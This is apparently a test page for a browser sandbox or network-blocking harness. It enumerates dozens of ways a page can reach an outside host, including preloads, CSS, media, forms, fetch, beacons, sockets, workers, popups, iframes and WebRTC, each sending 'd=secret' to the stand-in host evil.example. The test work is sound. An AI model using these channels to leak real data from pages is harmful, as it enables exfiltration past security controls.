// An app that tries every way out of a page that there is. `mode` is how it leads itself away at the end.
const far = (way) => `https://${way}.evil.example/x?d=secret`;
const attempt = (work) => { try { const done = work(); if (done && done.catch) done.catch(() => {}); } catch { /* refused */ } };
const put = (markup) => { const box = document.createElement('div'); box.innerHTML = markup; document.body.append(box); };
const head = (markup) => { const box = document.createElement('template'); box.innerHTML = markup; document.head.append(box.content); };
const frame = (change) => { const one = document.createElement('iframe'); change(one); document.body.append(one); return one; };
const mode = new URLSearchParams(location.search).get('mode');

for (const rel of ['prefetch', 'modulepreload', 'preconnect', 'prerender', 'stylesheet', 'icon', 'manifest']) head(`<link rel="${rel}" href="${far(rel)}">`);
head(`<link rel="preload" as="image" href="${far('preload')}"><link rel="dns-prefetch" href="//dns.evil.example">`);
head(`<style>@import url("${far('cssimport')}"); @font-face { font-family: x; src: url("${far('font')}") } body { font-family: x; background: url("${far('cssurl')}") }</style>`);
const rules = document.createElement('script');
rules.type = 'speculationrules';
rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [far('speculated')], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [far('prerendered')], eagerness: 'immediate' }] });
document.head.append(rules);
const script = document.createElement('script');
script.src = far('script');
document.head.append(script);

put(`<img src="${far('img')}"><img srcset="${far('srcset')} 1x"><iframe src="${far('iframe')}"></iframe><video src="${far('video')}" autoplay></video><audio src="${far('audio')}" autoplay></audio>`);
put(`<object data="${far('object')}"></object><embed src="${far('embed')}"><svg><image href="${far('svgimage')}" width="9" height="9"/><use href="${far('svguse')}#a"/></svg>`);
put(`<a id="ping" href="#x" ping="${far('ping')}">a</a><a id="blank" href="${far('blank')}" target="_blank">b</a><a id="load" download href="${far('download')}">c</a><a id="top" href="${far('toplink')}" target="_top">d</a>`);
put(`<form id="blankform" method="post" target="_blank" action="${far('blankform')}"></form><form id="form" method="post" action="${far('form')}"></form><form id="hidden" method="post" target="sink" action="${far('framedform')}"></form><iframe name="sink"></iframe>`);

attempt(() => fetch(far('fetch')));
attempt(() => fetch(far('keepalive'), { keepalive: true, mode: 'no-cors' }));
attempt(() => fetchLater(far('later'), { activateAfter: 0 }));
attempt(() => { const asked = new XMLHttpRequest(); asked.open('GET', far('xhr')); asked.send(); });
attempt(() => navigator.sendBeacon(far('beacon'), 'secret'));
attempt(() => new WebSocket('wss://socket.evil.example/'));
attempt(() => new EventSource(far('events')));
attempt(() => new WebTransport('https://transport.evil.example/'));
attempt(() => import(far('import')));
const code = (text) => URL.createObjectURL(new Blob([text]));
attempt(() => new Worker(code(`fetch('${far('workerfetch')}').catch(() => {}); try { importScripts('${far('workerimport')}') } catch {}`)));
attempt(() => new Worker(far('worker')));
attempt(() => new SharedWorker(code(`fetch('${far('sharedworker')}').catch(() => {})`)));
attempt(() => window.open(far('popup')));
// In a tab of its own these would end the page before the rest is tried.
const stays = mode === 'stay';
for (const id of ['ping', 'blank', ...(stays ? [] : ['top'])]) attempt(() => document.getElementById(id).click());
for (const id of ['blankform', 'hidden']) attempt(() => document.getElementById(id).submit());
if (!stays) attempt(() => { top.location = far('toplocation'); });
if (!stays) attempt(() => { parent.location = far('parentlocation'); });
attempt(() => frame(() => {}).contentWindow.fetch(far('blankfetch')).catch(() => {}));
attempt(() => frame((one) => { one.srcdoc = `<img src="${far('srcdocimg')}"><script>location = '${far('srcdocnav')}'<\/script>`; }));
attempt(() => frame((one) => { one.src = `data:text/html,<img src="${far('dataimg')}"><script>location = '${far('datanav')}'<\/script>`; }));
attempt(() => frame((one) => { one.src = URL.createObjectURL(new Blob([`<img src="${far('blobimg')}">`], { type: 'text/html' })); }));
attempt(() => new PaymentRequest([{ supportedMethods: far('payment') }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment());
attempt(() => { const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${UDP_PORT}` }] }); call.createDataChannel('x'); call.createOffer().then((offer) => call.setLocalDescription(offer)); });
attempt(() => navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'has a service worker'; }));

const LEADS = {
  nav: () => { location = far('nav'); },
  meta: () => head(`<meta http-equiv="refresh" content="0;url=${far('meta')}">`),
  form: () => document.getElementById('form').submit(),
  download: () => document.getElementById('load').click(),
  sibling: () => { location = SIBLING; },
  worker: () => { location = '/of-the-worker'; },
};
document.querySelector('h1').textContent = 'Everything was tried';
if (LEADS[mode]) setTimeout(LEADS[mode], 800);
